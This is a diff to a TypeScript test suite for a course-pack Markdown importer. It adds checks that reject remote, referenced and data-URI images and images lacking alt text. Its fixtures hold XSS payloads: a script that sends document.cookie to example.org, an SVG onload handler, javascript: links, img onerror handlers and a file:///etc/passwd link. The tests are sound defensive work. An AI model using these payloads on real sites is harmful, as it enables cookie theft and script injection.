@@ -141,6 +141,11 @@ describe('a hostile or broken text is refused:', () => {
     ['a directive that JavaScript knows', appended(lesson, '\n::constructor{id="c1"}\n'), /lesson\.md:50: constructor: wanted a directive: run,/],
     ['a script in Markdown', appended(lesson, '\n<script>fetch("https://example.org/" + document.cookie)</script>\n'), /lesson\.md:50: wanted Markdown, found raw HTML/],
     ['a frame in Markdown', appended(lesson, '\n<iframe src="https://example.org"></iframe>\n'), /lesson\.md:50: wanted Markdown, found raw HTML/],
+    ['a picture from elsewhere', appended(lesson, '\nSee ![x](https://example.org/spy.png).\n'), /lesson\.md:50: wanted a picture file beside lesson\.md, found https:\/\/example\.org\/spy\.png/],
+    ['a picture by reference', appended(lesson, '\n![x][y]\n\n[y]: https://example.org/spy.png\n'), /lesson\.md:50: wanted a picture as .* found one by reference/],
+    ['a picture out of the address', appended(lesson, '\n![x](data:image/svg+xml,<svg/onload=alert(1)>)\n'), /lesson\.md:50: wanted a picture file beside lesson\.md/],
+    ['a text as a picture', appended(lesson, '\n![x](lesson.yaml)\n'), /lesson\.md:50: wanted a picture file beside lesson\.md, found lesson\.yaml/],
+    ['a picture without words', zipOf({ [lesson]: `${good[lesson]}\n![](wire.png)\n`, 'basics/a-switch/wire.png': pngHead(10, 10) }), /lesson\.md:50: wanted what the picture shows, in words/],
     ['quotes in quotes without end', appended(lesson, `\n${'>'.repeat(3000)} x\n`), /lesson\.md:50: wanted lists and quotes at most 6 deep, found deeper ones/],
     ['lists in lists without end', appended(lesson, `\n${'- '.repeat(1500)}x\n`), /lists and quotes at most 6 deep/],
     ['footnotes in footnotes without end', appended(lesson, `\n${'[^1]: '.repeat(600)}x\n`), /lists and quotes at most 6 deep/],
@@ -179,6 +184,13 @@ describe('a manifest that does not fit is refused:', () => {
   ])('%s', (_, bytes, says) => expect(opened(bytes).said).toMatch(says));
 });
 
+it('a picture of the pack is shown as its own bytes', () => {
+  const { course, said } = opened(zipOf({ [lesson]: `${good[lesson]}\n![A wire](wire.png)\n`, 'basics/a-switch/wire.png': pngHead(640, 480) }));
+  expect(said).toBe('');
+  const block = course?.units[0]?.lessons[0]?.screens.at(-1)?.blocks.at(-1);
+  expect(block?.kind === 'prose' && block.text.html).toMatch(/<img src="data:image\/png;base64,iVBORw0K[^"]*" alt="A wire">/);
+});
+
 describe('what cannot be refused has lost its sting:', () => {
   const htmlOf = (more: string): string => {
     const { course, said } = opened(appended(lesson, `\n${more}\n`));
@@ -189,7 +201,6 @@ describe('what cannot be refused has lost its sting:', () => {
     ['a link that runs', '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,x)', /javascript|data:/i],
     ['a link to a file', '[x](file:///etc/passwd)', /file:/],
     ['HTML inside a sentence', 'a <img src=x onerror=alert(1)> b <b onclick="x()">c</b>', /onerror|onclick|<img/],
-    ['a picture from elsewhere', '![x](https://example.org/spy.png)', /spy\.png/],
     ['entities that spell a tag', '&lt;script&gt;alert(1)&lt;/script&gt;', /<script/],
   ])('%s', (_, more, sting) => expect(htmlOf(more)).not.toMatch(sting));
 });
